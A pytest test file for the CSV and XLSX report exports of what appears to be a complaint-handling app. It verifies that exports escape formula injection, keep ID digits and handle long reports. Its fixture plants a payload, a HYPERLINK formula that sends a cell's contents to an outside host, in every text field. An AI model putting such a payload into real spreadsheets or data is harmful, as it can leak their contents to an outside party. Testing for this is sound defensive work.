"""What stands in the files: no formula, no lost digit, no truncated line."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from app.models import (
    CaseEvent,
    Category,
    Channel,
    Complaint,
    Courier,
    DocumentKind,
    Region,
    SopStep,
    User,
)
from app.services.reports.rows import CHUNK
from tests.support.reports import fill_office, lines, sheets

IN_FEBRUARY = datetime(2026, 2, 3, 3, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
#: What a spreadsheet may take for the beginning of a formula.
STARTS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1", "－1", "＋1", "＠x")


@pytest.fixture
def poisoned(session: Session, make_case: Any) -> str:
    """A case in which every text is a formula: typed by its applicant, its officers, its office."""
    case = make_case("returned", at=IN_FEBRUARY)
    session.execute(
        update(Complaint).where(Complaint.id == case.id).values(
            applicant_name=FORMULA, address=FORMULA, text=FORMULA, answer=FORMULA, phone="+62812",
        )
    )  # fmt: skip
    session.execute(update(CaseEvent).values(reason=FORMULA))
    session.execute(update(User).values(first_name=FORMULA[:60]))
    session.execute(update(Region).values(name=FORMULA[:60]))
    for model in (Channel, Category, DocumentKind, SopStep):
        session.execute(update(model).values(label_id=FORMULA, label_en=FORMULA))
    session.execute(update(Courier).values(name=FORMULA[:60]))
    session.commit()
    return str(case.number)


@pytest.mark.parametrize("report", ["register.csv", "due.csv"])
def test_no_cell_of_a_csv_begins_a_formula(fetch: Any, poisoned: str, report: str) -> None:
    found = lines(fetch("petugas", report, to="2026-05-31"))
    cells = [cell for line in found for cell in line]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r＝＋－＠"))]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.parametrize("report", ["register.xlsx", "due.xlsx", "recap.xlsx"])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(
    fetch: Any, poisoned: str, report: str
) -> None:
    data = fetch("petugas", report, to="2026-05-31")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    written = "".join(text for name, text in parts.items() if "worksheets/" in name)
    assert not re.search(r"<f[ >]|hyperlink", written)
    assert "HYPERLINK" in str(parts)
    assert FORMULA[:20] in str(sheets(data))


@pytest.mark.parametrize("start", STARTS)
def test_what_an_applicant_is_called_stays_what_it_is(
    session: Session, fetch: Any, make_case: Any, start: str
) -> None:
    case = make_case(at=IN_FEBRUARY)
    session.execute(update(Complaint).where(Complaint.id == case.id).values(applicant_name=start))
    session.commit()
    (line,) = lines(fetch("petugas", "register.csv"))[1:]
    assert line[4] == f"'{start}"
    (sheet,) = sheets(fetch("petugas", "register.xlsx")).values()
    assert sheet[1][4] == start


def test_numbers_of_people_keep_all_their_digits(
    session: Session, fetch: Any, make_case: Any
) -> None:
    make_case(at=IN_FEBRUARY, nik="3325014107900007", kk_number="0025010101900009")
    (sheet,) = sheets(fetch("petugas", "register.xlsx")).values()
    heading, row = sheet
    assert row[heading.index("NIK")] == "3325014107900007"
    assert row[heading.index("Nomor KK")] == "0025010101900009"


def test_a_line_of_the_book_as_the_office_keeps_it(fetch: Any, make_case: Any) -> None:
    case = make_case("done", at=IN_FEBRUARY, text="Nama salah; tolong\nperbaiki", sex="P")
    number, name = case.number, case.applicant_name
    heading, line = lines(fetch("petugas", "register.csv"))
    row = dict(zip(heading, line, strict=True))
    assert row["No"] == "1"
    assert row["Nomor pengaduan"] == number
    assert row["Tanggal dan jam"] == "2026-02-03 10:00"
    assert row["Nama"] == name
    assert row["Jenis kelamin"] == "P"
    assert row["Uraian pengaduan"] == "Nama salah; tolong\nperbaiki"
    assert "(ada)" in row["Berkas"]
    assert row["Petugas"] == "Siti Rahmawati"
    assert row["Disposisi"] == ""
    assert row["Tindak lanjut"].startswith("Kirim (")
    assert row["Tanggal selesai"].startswith("2026-02-03")
    assert row["Status"] == "Selesai, dokumen dikirim"
    assert row["Nomor resi"]


def test_an_open_case_says_whose_it_is(session: Session, fetch: Any, make_case: Any) -> None:
    make_case("siak_check", at=IN_FEBRUARY)
    heading, line = lines(fetch("petugas", "register.csv"))
    row = dict(zip(heading, line, strict=True))
    assert row["Disposisi"] == "Operator"
    assert row["Tindak lanjut"].startswith("Teruskan ke Operator (")
    assert row["Tanggal selesai"] == ""


@pytest.mark.both
def test_a_long_book_is_read_in_pieces(
    session: Session, fetch: Any, sql_count: Any, login: Any, ask: Any, work: Any
) -> None:
    rows = CHUNK * 2 + 7
    fill_office(session, 1, rows, days=3)
    assert len(session.scalars(select(Complaint.id)).all()) == rows
    whole = {"from": "2026-01-01", "to": "2026-03-01"}
    job = ask(login("petugas"), "register.csv", **whole)
    with sql_count() as statements:
        work()
    session.refresh(job)
    assert (job.state, job.progress, job.total) == ("done", rows, rows)
    # Three pieces with three look-ups, a sign of life and a commit each.
    assert len(statements) <= 60
    book = lines(login("petugas").get(f"/reports/{job.public_id}/file").data)
    assert len(book) == rows + 1
    assert len({line[1] for line in book[1:]}) == rows
